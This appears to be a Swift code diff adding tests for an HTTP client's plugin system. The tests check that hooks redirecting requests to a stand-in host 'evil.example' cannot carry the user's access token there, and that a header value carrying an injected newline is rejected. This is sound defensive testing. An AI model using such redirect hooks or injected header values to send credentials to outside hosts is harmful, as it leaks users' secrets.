@@ -1,4 +1,5 @@
 import Foundation
+import HTTPMessage
 import JSONKit
 import Plugins
 import Script
@@ -94,6 +95,64 @@ import Testing
         #expect(log.lines.contains("p: looked"))
         #expect(log.lines.contains { $0.hasPrefix("p: {") && $0.contains("hook") })
     }
+
+    // MARK: Secrets
+
+    /// A mask that it leaves alone becomes the secret again, but only for whom the request was meant.
+    @Test(arguments: [
+        ("https://evil.example/x", ["plugin-masked"]), ("http://api.example/x", ["plugin-masked"]),
+        ("https://api.example/other", []),
+    ])
+    func hooksTakeNoSecretElsewhere(url: String, failures: [String]) async throws {
+        let hooks = ["plugin p 1.0.0\non request\n  change --url \(url)\nend\n", "process"]
+        for hook in hooks {
+            let bench = await Bench([.tokens, .json([:]), .json([:])])
+            #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
+            if hook == "process" {
+                let body =
+                    "q = message['params']['request']; q['url'] = '\(url)'; answer({'action': 'replace', 'request': q})"
+                try await bench.addedProcess(body, hooks: "['request']")
+            } else {
+                try await bench.added(hook)
+            }
+            let before = bench.transport.requests.count
+            #expect(await bench.run("get /x") == failures)
+            #expect(bench.transport.requests.count == before + (failures.isEmpty ? 1 : 0))
+            #expect(await bench.run("get /x --no-token") == [])
+            #expect(bench.transport.requests.last?.url == url)
+            await bench.workbench.endPlugins()
+        }
+    }
+
+    @Test func whatAPluginRunsTakesNoSecretElsewhere() async throws {
+        for (needs, data) in [
+            ("[]", JSON("plugin-masked")), ("[{'secret': 'access_token', 'reason': 'to'}]", JSON?.none),
+        ] {
+            let bench = await Bench([.tokens, .json([:]), .json([:])])
+            #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
+            let body = "answer({'value': ask('keyway/run', line=message['params']['operands']['line'])})"
+            try await bench.addedProcess(body, needs: needs)
+            #expect(await bench.run("p-run 'get https://evil.example/ --token 1'") == [])
+            let answer = await bench.display.answers.compactMap(\.json).last
+            #expect(answer?["error"]?["data"] == data, "\(answer?.text() ?? "")")
+            #expect(bench.transport.requests.last?.url.hasPrefix("https://evil.example") == (data == nil))
+            #expect(await bench.run("p-run 'get /x'") == [])
+            #expect(bench.transport.requests.last?.headers["Authorization"] == "Bearer access-token-1")
+            await bench.workbench.endPlugins()
+        }
+    }
+
+    /// Who made a request that cannot be sent is named.
+    @Test(arguments: ["--method 'A B'", "--url nonsense", "'X-A:a\\nB: c'"])
+    func hooksThatMakeNoRequestAreNamed(change: String) async throws {
+        let bench = await Bench([.json([:])])
+        let written = change.hasPrefix("'X") ? "X-A:\"a\\nB: c\"" : change
+        try await bench.added("plugin p 1.0.0\non request\n  change \(written)\nend\n")
+        #expect(await bench.run("get /x") == ["plugin-nonsense"])
+        #expect(bench.transport.requests.isEmpty)
+    }
+
+    // MARK: Completion
 
     @Test func candidatesMeanThemselves() async throws {
         let bench = await Bench()
